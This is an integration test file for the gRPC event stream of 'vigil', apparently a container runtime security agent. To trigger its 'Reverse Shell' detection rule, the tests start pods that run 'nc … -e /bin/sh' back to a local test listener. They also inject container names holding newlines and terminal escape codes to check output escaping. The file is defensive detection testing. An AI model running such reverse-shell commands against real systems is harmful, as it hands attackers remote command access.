import * as grpc from '@grpc/grpc-js';
import * as protoLoader from '@grpc/proto-loader';
import { spawn } from 'node:child_process';
import { createRequire } from 'node:module';
import { join } from 'node:path';
import protobuf from 'protobufjs';
import descriptor from 'protobufjs/ext/descriptor/index.js';
import { protoPath as HEALTH_PROTO } from 'grpc-health-check';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { subscribe, type SubscribeRequestObject, type WireEnvelope } from '../../agent/delivery/client.js';
import { createCompactReader } from '../../agent/delivery/compact-render.js';
import { integrationUnavailable } from './docker-env.js';
import { startAgent, type AgentHandle } from './harness/agent.js';
import { listen, type Listener } from './harness/listener.js';
import { bridgeGateway, removeAllPods, runPod, type Pod } from './harness/pods.js';

const TOOLS = 'vigil-test/tools:latest';
const unavailable = integrationUnavailable();
const MAIN = join(import.meta.dirname, '..', '..', 'dist', 'agent', 'main.js');
const require = createRequire(import.meta.url);
// Other test runs share this Docker engine: namespaces of our own keep their pods out of our assertions.
const SHOP = `i9shop${process.pid}`;
const OTHER = `i9other${process.pid}`;
const HOSTILE_NS = `i9hostile${process.pid}`;
const COMPACT_NS = `i9compact${process.pid}`;

/** A subscription that records what it got, in order. */
interface Recorder {
  readonly got: WireEnvelope[];
  readonly handle: ReturnType<typeof subscribe>;
  readonly alerts: () => Record<string, unknown>[];
  readonly sequences: () => number[];
  readonly losses: () => { firstSequence: number; lastSequence: number; count: number; reason: string }[];
}

const open = new Set<Recorder>();

function record(addr: string, req: SubscribeRequestObject, raw = false): Recorder {
  const got: WireEnvelope[] = [];
  const handle = subscribe(addr, req, (e) => got.push(e), { raw });
  void handle.done.then(() => open.delete(rec));
  const rec = {} as Recorder;
  Object.assign(rec, {
    got,
    handle,
    alerts: () => got.filter((e) => e.payload === 'alert').map((e) => e.alert as Record<string, unknown>),
    sequences: () => got.filter((e) => e.payload !== 'loss').map((e) => Number(e.sequence)),
    losses: () =>
      got
        .filter((e) => e.payload === 'loss')
        .map((e) => {
          const l = e.loss as Record<string, string>;
          return { firstSequence: Number(l.firstSequence ?? 0), lastSequence: Number(l.lastSequence ?? 0), count: Number(l.count ?? 0), reason: l.reason ?? '' };
        }),
  });
  open.add(rec);
  return rec;
}

async function until(what: string, cond: () => boolean, timeoutMs = 20_000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!cond()) {
    if (Date.now() > deadline) throw new Error(`timed out after ${timeoutMs} ms waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 25));
  }
}

/** Reads the agent's vigil_* gauge or counter value (sum over labels matching `labels`). */
async function metric(agent: AgentHandle, name: string, labels = ''): Promise<number> {
  let text: string;
  try {
    text = await agent.metrics();
  } catch {
    // A keep-alive connection the server closed just as it was reused: ask again.
    text = await agent.metrics();
  }
  let sum = 0;
  for (const line of text.split('\n')) {
    if (line.startsWith(`${name}{${labels}`) || (labels === '' && line.startsWith(`${name} `))) sum += Number(line.split(' ').pop());
  }
  return sum;
}

const field = (a: Record<string, unknown>, name: string): unknown => {
  const v = (a.outputFields as Record<string, Record<string, unknown>>)[name] ?? {};
  return v.stringValue ?? v.intValue ?? v.doubleValue ?? v.boolValue;
};

describe.skipIf(unavailable)('gRPC event stream from a real agent', () => {
  let agent: AgentHandle;
  let gateway: string;
  const listeners: Listener[] = [];

  beforeAll(async () => {
    gateway = bridgeGateway();
    // A per-subscriber queue small enough for a paused subscriber to overflow within a test,
    // large enough for a reading one to absorb a scan's burst.
    agent = await startAgent(['--scan-interval-ms', '1000', '--grpc-subscriber-queue', '2048', '--grpc-ring-size', '100000']);
  });
  afterEach(async () => {
    removeAllPods();
    for (const l of listeners.splice(0)) await l.close();
    for (const r of [...open]) r.handle.cancel();
    // Each test counts its own subscribers from zero.
    await untilAsync('no subscribers left', async () => (await metric(agent, 'vigil_grpc_subscribers')) === 0);
  });
  afterAll(async () => {
    removeAllPods();
    const code = await agent?.stop();
    if (code !== 0) console.log(`[grpc] agent exited with ${code}; stderr tail:\n${agent?.stderr().slice(-6000)}`);
    expect(code).toBe(0);
  });

  async function reverseShell(namespace: string, pod: string): Promise<Pod> {
    const l = await listen(gateway);
    listeners.push(l);
    const p = runPod({ namespace, pod, container: 'app', image: TOOLS, command: ['nc', gateway, String(l.port), '-e', '/bin/sh'] });
    await l.waitForConnection(15_000);
    return p;
  }

  it('filters server-side by kind, priority, rule, namespace, pod regex and a rule-language condition', async () => {
    const ports = await Promise.all([listen(gateway), listen(gateway), listen(gateway)]);
    listeners.push(...ports);
    const alertsOnly = record(agent.grpcAddr, {
      kinds: ['KIND_ALERT'],
      minPriority: 'PRIORITY_CRITICAL',
      rules: ['Reverse Shell'],
      namespaces: [SHOP],
      podNameRegex: '^rs-[a-z]+$',
    });
    // The condition is evaluated on the event that raised each alert (the shell's dup event).
    const mine = ports.map((l) => l.port).join(', ');
    const byCondition = record(agent.grpcAddr, { kinds: ['KIND_ALERT'], condition: `evt.type = dup and fd.rport in (${mine})` });
    await Promise.all([alertsOnly.handle.subscribed, byCondition.handle.subscribed]);

    const spawnShell = (l: Listener, namespace: string, pod: string): Promise<Pod> => {
      const p = runPod({ namespace, pod, container: 'app', image: TOOLS, command: ['nc', gateway, String(l.port), '-e', '/bin/sh'] });
      return l.waitForConnection(15_000).then(() => p);
    };
    const pods = [await spawnShell(ports[0]!, SHOP, 'rs-alpha'), await spawnShell(ports[1]!, OTHER, 'rs-beta'), await spawnShell(ports[2]!, SHOP, 'db-gamma')];
    for (const p of pods) await agent.waitForAlert((a) => a.rule === 'Reverse Shell' && a.output_fields['k8s.pod.name'] === p.pod, 10_000);
    await until('the shop alert on the stream', () => alertsOnly.alerts().some((a) => field(a, 'k8s.pod.name') === 'rs-alpha'));
    const portsSeen = (): Set<string> => new Set(byCondition.alerts().map((a) => String(field(a, 'fd.rport'))));
    await until('alerts for the three listeners', () => portsSeen().size === 3).catch((err: Error) => {
      throw new Error(`${err.message}; got ${JSON.stringify(byCondition.alerts())}`);
    });
    // Let anything that should not have passed arrive, if it were going to.
    await new Promise((r) => setTimeout(r, 1_000));

    // Exactly the stdout alerts that match the filters, no more.
    const expected = agent.alerts.filter((a) => a.rule === 'Reverse Shell' && a.output_fields['k8s.ns.name'] === SHOP && /^rs-[a-z]+$/.test(String(a.output_fields['k8s.pod.name'])));
    expect(expected.length).toBeGreaterThan(0);
    expect(alertsOnly.alerts().map((a) => a.output)).toEqual(expected.map((a) => a.output));
    expect(alertsOnly.got.every((e) => e.payload === 'alert')).toBe(true);
    expect(alertsOnly.alerts()[0]).toMatchObject({ priority: 'PRIORITY_CRITICAL', priorityText: 'Critical', rule: 'Reverse Shell', source: 'syscall' });
    // Exactly the stdout alerts raised by dup events towards our listeners.
    const byPort = agent.alerts.filter((a) => a.rule === 'Reverse Shell' && ports.some((l) => a.output_fields['fd.rport'] === l.port));
    expect(byCondition.alerts().map((a) => a.output)).toEqual(byPort.map((a) => a.output));
    alertsOnly.handle.cancel();
    byCondition.handle.cancel();
    expect(await alertsOnly.handle.done).toBeNull();
    expect(await byCondition.handle.done).toBeNull();
  });

  it('a subscriber that reconnects with since_sequence misses nothing the ring holds', async () => {
    const first = record(agent.grpcAddr, {});
    await first.handle.subscribed;
    await reverseShell(SHOP, 'rs-before');
    await until('an envelope', () => first.got.length > 0);
    first.handle.cancel();
    await first.handle.done;
    const last = first.got.at(-1)!;
    const bootId = last.bootId!;

    // While disconnected: a reverse shell alerts.
    const during = await reverseShell(SHOP, 'rs-during');
    await agent.waitForAlert((a) => a.rule === 'Reverse Shell' && a.output_fields['k8s.pod.name'] === during.pod, 10_000);

    const second = record(agent.grpcAddr, { sinceSequence: Number(last.sequence), bootId });
    await until('the alert raised while disconnected', () => second.alerts().some((a) => field(a, 'k8s.pod.name') === 'rs-during'));
    second.handle.cancel();
    await second.handle.done;
    const seqs = [...first.sequences(), ...second.sequences()];
    // From the first envelope on, every sequence exactly once, in order, and no loss notice.
    expect(seqs).toEqual(Array.from({ length: seqs.length }, (_, i) => seqs[0]! + i));
    expect(second.losses()).toEqual([]);
    // Every kind the pipeline produced in that time is in the one numbered stream.
    const kinds = new Set([...first.got, ...second.got].map((e) => e.payload));
    for (const k of ['exec', 'stdio', 'alert']) expect(kinds).toContain(k);
    expect(new Set([...first.got, ...second.got].map((e) => e.eventId)).size).toBe(seqs.length);
  });

  it('a paused subscriber gets loss notices whose ranges are exactly its gaps, and does not hold back a fast one', async () => {
    const slow = record(agent.grpcAddr, { subscriberName: 'slow-siem' });
    const fast = record(agent.grpcAddr, { subscriberName: 'fast-siem' });
    await Promise.all([slow.handle.subscribed, fast.handle.subscribed]);
    // Stop reading: HTTP/2 flow control fills, then the agent's queue for it.
    const call = slow.handle.call;
    call.pause();
    const droppedBefore = await metric(agent, 'vigil_grpc_subscriber_dropped_total', 'reason="queue_full"');
    // An exec storm in a pod: thousands of exec and exit envelopes, paced (a
    // few hundred execs a second) so that a subscriber that reads keeps up on a
    // busy 2-core machine while the paused one's queue fills.
    runPod({ namespace: SHOP, pod: 'storm', container: 'app', image: TOOLS, command: ['sh', '-c', 'i=0; while [ $i -lt 6000 ]; do /bin/true; usleep 2000; i=$((i+1)); done; sleep 60'] });
    await untilAsync('drops for the paused subscriber', async () => (await metric(agent, 'vigil_grpc_subscriber_dropped_total', 'reason="queue_full"')) > droppedBefore, 60_000);
    // Its queue is full meanwhile, and the metrics say which subscriber it is.
    expect(await metric(agent, 'vigil_grpc_subscriber_queue_depth', 'subscriber="slow-siem"')).toBeGreaterThan(0);
    expect(await metric(agent, 'vigil_grpc_subscriber_dropped_total', 'reason="queue_full",subscriber="slow-siem"')).toBeGreaterThan(0);
    // The fast one keeps up meanwhile: it gets the newest envelope while the slow one is still paused.
    const newest = (): number => Math.max(0, ...fast.sequences());
    const target = newest() + 1;
    await reverseShell(SHOP, 'rs-while-slow');
    await until('the fast subscriber to move on', () => newest() > target);
    await agent.waitForAlert((a) => a.output_fields['k8s.pod.name'] === 'rs-while-slow', 10_000);
    await until('the fast subscriber to get the alert', () => fast.alerts().some((a) => field(a, 'k8s.pod.name') === 'rs-while-slow'));
    call.resume();
    const end = newest();
    await until('the slow subscriber to catch up', () => Math.max(0, ...slow.sequences()) >= end || slow.losses().some((l) => l.lastSequence >= end), 30_000);
    slow.handle.cancel();
    fast.handle.cancel();
    await Promise.all([slow.handle.done, fast.handle.done]);

    for (const sub of [slow, fast]) {
      // Every sequence from the first one seen is either received or inside exactly one announced gap.
      const seen = sub.sequences();
      const losses = sub.losses();
      const covered: number[] = [...seen];
      for (const l of losses) {
        expect(l.reason).toBe('subscriber_queue_full');
        expect(l.count).toBe(l.lastSequence - l.firstSequence + 1); // unfiltered: the count is the range
        for (let s = l.firstSequence; s <= l.lastSequence; s++) covered.push(s);
      }
      covered.sort((a, b) => a - b);
      const upTo = covered.filter((s) => s <= end);
      expect(upTo).toEqual(Array.from({ length: upTo.length }, (_, i) => upTo[0]! + i));
      // Each notice comes right after the last envelope before its gap.
      for (let i = 0; i < sub.got.length; i++) {
        if (sub.got[i]!.payload !== 'loss') continue;
        const l = sub.got[i]!.loss as Record<string, string>;
        const before = sub.got
          .slice(0, i)
          .filter((e) => e.payload !== 'loss')
          .at(-1);
        if (before) expect(Number(before.sequence)).toBe(Number(l.firstSequence) - 1);
      }
    }
    expect(slow.losses().length).toBeGreaterThan(0);
    const slowLost = slow.losses().reduce((n, l) => n + l.count, 0);
    // Per subscriber: what each was announced as lost is what the agent counted for it (a gap still open at the cancel counts, unannounced).
    expect(await metric(agent, 'vigil_grpc_subscriber_dropped_total', 'reason="queue_full",subscriber="slow-siem"')).toBeGreaterThanOrEqual(slowLost);
    expect(await metric(agent, 'vigil_grpc_subscriber_dropped_total', 'reason="queue_full",subscriber="fast-siem"')).toBe(fast.losses().reduce((n, l) => n + l.count, 0));
    expect(await metric(agent, 'vigil_grpc_sent_total', 'subscriber="fast-siem"')).toBeGreaterThanOrEqual(fast.sequences().length);
    expect(await metric(agent, 'vigil_grpc_subscriber_last_sent_timestamp_seconds', 'subscriber="fast-siem"')).toBeGreaterThan(Date.now() / 1000 - 120);
    console.log(
      `[grpc] paused subscriber: ${slow.sequences().length} received, ${slowLost} announced lost in ${slow.losses().length} notices; fast: ${fast.sequences().length} received, ${fast.losses().length} notices`,
    );
  });

  it('a COMPACT subscriber rebuilds exactly what a FULL one gets from real alerts, hostile strings included, and resumes with since_sequence', async () => {
    const hostile = 'evil\nforged line\r\x1b[31mred |=\\"\' \u202emoc.live\u2028end %proc.name';
    const filter = { namespaces: [COMPACT_NS] };
    const full = record(agent.grpcAddr, filter);
    const compact1 = record(agent.grpcAddr, { ...filter, encoding: 'ALERT_ENCODING_COMPACT' }, true);
    await Promise.all([full.handle.subscribed, compact1.handle.subscribed]);
    const shell = async (pod: string): Promise<void> => {
      const l = await listen(gateway);
      listeners.push(l);
      runPod({ namespace: COMPACT_NS, pod, container: 'app', image: TOOLS, labels: { 'io.kubernetes.container.name': hostile }, command: ['nc', gateway, String(l.port), '-e', '/bin/sh'] });
      await l.waitForConnection(15_000);
      await agent.waitForAlert((a) => a.rule === 'Reverse Shell' && a.output_fields['k8s.pod.name'] === pod, 15_000);
    };
    const compactAlertOf = (r: Recorder, pod: string) => (): boolean => r.got.some((e) => e.payload === 'compactAlert' && JSON.stringify(e.compactAlert).includes(JSON.stringify(pod)));
    const fullAlertOf = (pod: string) => (): boolean => full.alerts().some((a) => a.rule === 'Reverse Shell' && field(a, 'k8s.pod.name') === pod);

    await shell('rs-compact-1');
    await until('the first alert, FULL', fullAlertOf('rs-compact-1'));
    await until('the first alert, COMPACT', compactAlertOf(compact1, 'rs-compact-1'));
    compact1.handle.cancel();
    await compact1.handle.done;
    const last = compact1.got.filter((e) => e.sequence !== undefined).at(-1)!;

    // While the COMPACT subscriber is away, another reverse shell; it resumes after the last sequence it saw.
    await shell('rs-compact-2');
    await until('the second alert, FULL', fullAlertOf('rs-compact-2'));
    const bootId = compact1.got.find((e) => e.bootId)!.bootId!;
    const compact2 = record(agent.grpcAddr, { ...filter, encoding: 'ALERT_ENCODING_COMPACT', sinceSequence: Number(last.sequence), bootId }, true);
    await until('the second alert, COMPACT, resumed', compactAlertOf(compact2, 'rs-compact-2'));
    // Let what is in flight arrive on both, then stop.
    await new Promise((r) => setTimeout(r, 1_000));
    compact2.handle.cancel();
    full.handle.cancel();
    await Promise.all([compact2.handle.done, full.handle.done]);

    // The COMPACT streams really are compact: schemas, compact alerts, node and boot id once per stream.
    for (const c of [compact1, compact2]) {
      const kinds = c.got.map((e) => e.payload);
      expect(kinds).toContain('alertSchema');
      expect(kinds).toContain('compactAlert');
      expect(kinds).not.toContain('alert');
      expect(c.got.filter((e) => e.node !== undefined)).toHaveLength(1);
      expect(c.got.findIndex((e) => e.payload === 'alertSchema')).toBeLessThan(c.got.findIndex((e) => e.payload === 'compactAlert'));
      // The pipeline hands the rule's layout over: the agent's own text is rebuilt, never sent.
      expect(c.got.filter((e) => e.payload === 'compactAlert' && (e.compactAlert as { output?: string }).output !== undefined)).toEqual([]);
    }
    // Rebuilt (each stream with its own reader), the two COMPACT streams together are the FULL stream: same envelopes, same order, nothing twice.
    const rebuilt = [compact1, compact2].flatMap((c) => {
      const reader = createCompactReader();
      return c.got.map((e) => reader.read(e)).filter((e) => e !== undefined);
    });
    const upTo = Math.min(Number(rebuilt.at(-1)!.sequence), Number(full.got.at(-1)!.sequence));
    const inRange = (l: WireEnvelope[]): WireEnvelope[] => l.filter((e) => e.payload !== 'loss' && Number(e.sequence) <= upTo);
    expect(inRange(rebuilt)).toEqual(inRange(full.got));
    const shells = inRange(rebuilt).filter((e) => e.payload === 'alert' && (e.alert as { rule: string }).rule === 'Reverse Shell');
    expect(shells.map((e) => field(e.alert as Record<string, unknown>, 'k8s.pod.name'))).toEqual(expect.arrayContaining(['rs-compact-1', 'rs-compact-2']));
    for (const e of shells) {
      const a = e.alert as Record<string, unknown>;
      expect(field(a, 'k8s.container.name')).toBe(hostile);
      expect(String(a.output)).toContain(hostile);
      // The text the agent printed on stdout, byte for byte.
      expect(agent.alerts.map((x) => x.output)).toContain(a.output);
    }
  });

  it('answers the standard health check, and reflection describes the service well enough to call it without the proto', async () => {
    const healthPkg = grpc.loadPackageDefinition(protoLoader.loadSync(HEALTH_PROTO, { enums: String })) as unknown as {
      grpc: { health: { v1: { Health: grpc.ServiceClientConstructor } } };
    };
    const health = new healthPkg.grpc.health.v1.Health(agent.grpcAddr, grpc.credentials.createInsecure());
    for (const service of ['', 'vigil.v1.EventService']) {
      const status = await new Promise<unknown>((resolve, reject) => health.Check!({ service }, (err: Error | null, res: { status: unknown }) => (err ? reject(err) : resolve(res.status))));
      expect(status).toBe('SERVING');
    }
    health.close();

    const reflPkg = grpc.loadPackageDefinition(protoLoader.loadSync(require.resolve('@grpc/reflection/build/proto/grpc/reflection/v1/reflection.proto'), { keepCase: true })) as unknown as {
      grpc: { reflection: { v1: { ServerReflection: grpc.ServiceClientConstructor } } };
    };
    const refl = new reflPkg.grpc.reflection.v1.ServerReflection(agent.grpcAddr, grpc.credentials.createInsecure());
    const ask = (req: Record<string, unknown>): Promise<Record<string, any>> =>
      new Promise((resolve, reject) => {
        const call = refl.ServerReflectionInfo!();
        call.on('data', (res: Record<string, any>) => {
          resolve(res);
          call.end();
        });
        call.on('error', reject);
        call.write(req);
      });
    const list = await ask({ list_services: '' });
    const names = (list.list_services_response.service as { name: string }[]).map((s) => s.name);
    expect(names).toEqual(expect.arrayContaining(['vigil.v1.EventService', 'grpc.health.v1.Health']));
    const files = await ask({ file_containing_symbol: 'vigil.v1.EventService' });
    const protos = (files.file_descriptor_response.file_descriptor_proto as Buffer[]).map((b) => descriptor.FileDescriptorProto.decode(b));
    refl.close();
    // What grpcurl does: build the types from the served descriptors only.
    const root = (protobuf.Root as unknown as { fromDescriptor(d: unknown): protobuf.Root }).fromDescriptor({ file: protos });
    const Req = root.lookupType('vigil.v1.SubscribeRequest');
    const Res = root.lookupType('vigil.v1.SubscribeResponse');
    const client = new grpc.Client(agent.grpcAddr, grpc.credentials.createInsecure());
    const got: Record<string, any>[] = [];
    const call = client.makeServerStreamRequest(
      '/vigil.v1.EventService/Subscribe',
      (r: Record<string, unknown>) => Buffer.from(Req.encode(Req.fromObject(r)).finish()),
      (b: Buffer) => Res.toObject(Res.decode(b), { longs: String, enums: String, oneofs: true }),
      { sinceSequence: 0, kinds: ['KIND_ALERT'] },
    );
    call.on('data', (m: Record<string, any>) => got.push(...(m.envelopes as Record<string, any>[])));
    call.on('error', () => undefined);
    await until('alerts from the ring', () => got.length > 0);
    call.cancel();
    client.close();
    expect(got[0]).toMatchObject({ payload: 'alert', node: expect.any(String), alert: { rule: expect.any(String), priority: expect.stringMatching(/^PRIORITY_/) } });
  });

  it('a hostile container name arrives intact through gRPC and cannot forge lines in `vigil tail`', async () => {
    const RULE = 'Reverse Shell';
    const hostile = 'evil\nforged line\r\x1b[31mred\x1b]0;t\x07 |=\\"\' \u202emoc.live\u2028end';
    const l = await listen(gateway);
    listeners.push(l);
    const sub = record(agent.grpcAddr, { kinds: ['KIND_ALERT'], rules: [RULE], namespaces: [HOSTILE_NS] });
    await sub.handle.subscribed;
    // `script` gives tail a terminal, so it prints its aligned colour lines. `exec`: the shell script
    // runs the command with ($SHELL, else /bin/sh) must not stay in the pty's process group, or dash
    // gets the Ctrl-C too and exits 130 whatever tail does.
    const tty = spawn('script', ['-qec', `exec ${process.execPath} ${MAIN} tail --addr ${agent.grpcAddr} --namespace ${HOSTILE_NS} --kind alert`, '/dev/null'], { stdio: ['pipe', 'pipe', 'pipe'] });
    const json = spawn(process.execPath, [MAIN, 'tail', '--addr', agent.grpcAddr, '--namespace', HOSTILE_NS, '--kind', 'alert'], { stdio: ['ignore', 'pipe', 'pipe'] });
    let ttyOut = '';
    let jsonOut = '';
    tty.stdout!.setEncoding('utf8').on('data', (c: string) => (ttyOut += c));
    json.stdout!.setEncoding('utf8').on('data', (c: string) => (jsonOut += c));
    try {
      await untilAsync('both tails subscribed', async () => (await metric(agent, 'vigil_grpc_subscribers')) >= 3);
      runPod({
        namespace: HOSTILE_NS,
        pod: 'nc-pod',
        container: 'app',
        image: TOOLS,
        labels: { 'io.kubernetes.container.name': hostile },
        command: ['nc', gateway, String(l.port), '-e', '/bin/sh'],
      });
      await l.waitForConnection(15_000);
      await until('the alert on the stream', () => sub.alerts().length > 0, 40_000).catch((err: Error) => {
        throw new Error(`${err.message}; stdout alerts: ${JSON.stringify(agent.alerts.filter((a) => a.output_fields['k8s.ns.name'] === HOSTILE_NS))}`);
      });
      const a = sub.alerts()[0]!;
      expect(field(a, 'k8s.container.name')).toBe(hostile);
      expect(String(a.output)).toContain(hostile);
      await until('both tails printed it', () => ttyOut.includes('Reverse Shell') && jsonOut.includes('Reverse Shell'), 20_000);
      sub.handle.cancel();
      await sub.handle.done;

      // JSON: one line per envelope (the pod raises other alerts too), the values intact.
      const fromTail = jsonOut
        .trim()
        .split('\n')
        .map((l) => JSON.parse(l) as WireEnvelope);
      const shells = fromTail.filter((e) => (e.alert as { rule?: string }).rule === RULE);
      expect(shells.length).toBeGreaterThan(0);
      for (const e of shells) expect(field(e.alert as Record<string, unknown>, 'k8s.container.name')).toBe(hostile);
      // TTY: every line one whole envelope, starting with its time; no control character but our own colours.
      const ttyLines = ttyOut
        .split('\r\n')
        .filter((x) => x.trim() !== '')
        .map((x) => x.replace(/\x1b\[(?:0|2|1;3[15]|3[1-6]|90)m/g, ''));
      expect(ttyLines.length).toBeGreaterThan(0);
      for (const line of ttyLines) {
        expect(line).toMatch(/^\d\d:\d\d:\d\d\.\d{3} /);
        expect(/[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e]/.test(line)).toBe(false);
      }
      // The container column is cut to its width; what shows is escaped.
      expect(ttyLines.find((l) => l.includes(RULE))).toContain('/evil\\nforged');

      // Ctrl-C: both exit 0.
      const codes = Promise.all([new Promise((r) => json.once('exit', r)), new Promise((r) => tty.once('exit', r))]);
      json.kill('SIGINT');
      tty.stdin!.write('\x03');
      expect(await codes).toEqual([0, 0]);
    } finally {
      json.kill('SIGKILL');
      tty.kill('SIGKILL');
    }
  });
});

async function untilAsync(what: string, cond: () => Promise<boolean>, timeoutMs = 20_000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!(await cond())) {
    if (Date.now() > deadline) throw new Error(`timed out after ${timeoutMs} ms waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 50));
  }
}
